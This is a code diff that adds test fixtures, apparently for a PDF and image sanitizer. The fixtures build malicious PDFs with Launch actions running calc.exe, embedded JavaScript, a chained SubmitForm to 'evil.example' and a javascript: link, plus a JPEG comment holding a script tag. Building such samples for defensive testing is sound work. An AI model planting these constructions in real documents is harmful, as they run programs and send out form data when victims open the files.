@@ -118,3 +118,47 @@ def jpeg_with_exif_orientation() -> bytes:
     out = io.BytesIO()
     img.save(out, "JPEG", exif=exif.tobytes())
     return out.getvalue()
+
+
+def pdf_with_catalog_in_the_trailer() -> bytes:
+    """The catalog written directly in the trailer (not a numbered object),
+    with a Launch action on opening and JavaScript in its name tree."""
+    page = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>"
+    pages = b"<</Type/Pages/Kids[1 0 R]/Count 1>>"
+    body = b"%PDF-1.7\n"
+    offsets = []
+    for n, obj in enumerate((page, pages), 1):
+        offsets.append(len(body))
+        body += f"{n} 0 obj\n".encode() + obj + b"\nendobj\n"
+    xref = len(body)
+    body += b"xref\n0 3\n0000000000 65535 f \n" + b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
+    root = (
+        b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(calc.exe)>>"
+        b"/Names<</JavaScript<</Names[(x)<</S/JavaScript/JS(app.alert(1))>>]>>>>>>"
+    )
+    body += b"trailer\n<</Size 3/Root " + root + b">>\nstartxref\n" + str(xref).encode() + b"\n%%EOF\n"
+    return body
+
+
+def pdf_with_chained_actions() -> bytes:
+    """A link whose action is a harmless GoTo, followed (/Next) by a Launch
+    and a SubmitForm, and a javascript: URI link."""
+    doc = pikepdf.open(io.BytesIO(pdf()))
+    follow = pikepdf.Array(
+        [
+            pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")),
+            pikepdf.Dictionary(S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example/")),
+        ]
+    )
+    goto = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([doc.pages[0].obj, pikepdf.Name.Fit]), Next=follow)
+    link = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 50, 50], A=goto)
+    uri = pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("javascript:alert(1)"))
+    link2 = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 60, 50, 90], A=uri)
+    doc.pages[0].obj.Annots = pikepdf.Array([link, link2])
+    out = io.BytesIO()
+    doc.save(out)
+    return out.getvalue()
+
+
+def jpeg_with_a_comment() -> bytes:
+    return image("JPEG", comment=b"<script>alert(1)</script>")
